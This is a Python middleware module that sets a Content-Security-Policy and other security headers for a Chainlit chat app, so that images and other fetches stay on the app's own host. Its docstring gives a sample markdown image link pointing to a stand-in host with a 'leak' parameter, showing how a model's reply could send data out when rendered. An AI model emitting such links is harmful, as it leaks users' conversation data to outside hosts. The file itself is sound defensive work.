"""Content-Security-Policy and friends on every response of the app.

Why: a model's reply is markdown, and markdown may hold `![x](http://other.host/?leak=…)`.
Without a policy the browser fetches that URL as soon as the message is shown (also when
a thread is reopened), telling another host whatever the model put in it. With
`img-src 'self' data: blob:` (and `'self'` for everything else that fetches) the browser
refuses, and nothing leaves. Scripts are limited to the app's own files plus the two
small inline scripts of Chainlit's page, allowed by their hashes (computed from the page
Chainlit serves, so a Chainlit upgrade cannot silently break or widen this).

Styles keep `'unsafe-inline'`: Chainlit's front end (Radix UI popovers, toasts, the
Plotly chart) writes `<style>` elements and style attributes at run time; since every
fetch directive is `'self'`, an injected style can neither load nor send anything.
Fonts and the KaTeX stylesheet that Chainlit's page links from CDNs are refused (the
page falls back to system fonts; LaTeX is off).

A response that sets its own policy keeps it (`/media` sends `default-src 'none'`).
"""

from __future__ import annotations

import base64
import hashlib
import re

from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
_HOST = re.compile(r"^(?:[A-Za-z0-9.-]+|\[[0-9A-Fa-f:.]+\])(?::\d{1,5})?$")

EXTRA_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
    "X-Frame-Options": "DENY",  # frame-ancestors for browsers that predate CSP 2
}


def inline_script_hashes(html: str) -> list[str]:
    """CSP source expressions for each inline `<script>` of the page."""
    return [
        "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"
        for body in _INLINE_SCRIPT.findall(html)
    ]


def chainlit_page_hashes() -> list[str]:
    """Hashes of the inline scripts of the page Chainlit serves (call after mounting)."""
    from chainlit.server import get_html_template

    return inline_script_hashes(get_html_template("/"))


def policy(script_hashes: list[str], host: str | None) -> str:
    """The policy for a page served to `host` (the request's Host header).

    `'self'` in connect-src covers ws:/wss: of the same host in current browsers; the
    explicit ws:// and wss:// entries are for those that predate CSP 3.
    """
    sockets = f" ws://{host} wss://{host}" if host and _HOST.match(host) else ""
    directives = [
        "default-src 'self'",
        "script-src 'self' " + " ".join(script_hashes),
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data: blob:",
        "media-src 'self' data: blob:",
        "font-src 'self' data:",
        "connect-src 'self'" + sockets,
        "worker-src 'self' blob:",
        "frame-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
    ]
    return "; ".join(d.strip() for d in directives)


class SecurityHeadersMiddleware:
    def __init__(self, app: ASGIApp, script_hashes: list[str]) -> None:
        self.app = app
        self.script_hashes = script_hashes

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        host = next((v.decode("latin-1") for k, v in scope["headers"] if k == b"host"), None)
        csp = policy(self.script_hashes, host)

        async def with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                headers.setdefault("Content-Security-Policy", csp)
                for name, value in EXTRA_HEADERS.items():
                    headers.setdefault(name, value)
            await send(message)

        await self.app(scope, receive, with_headers)
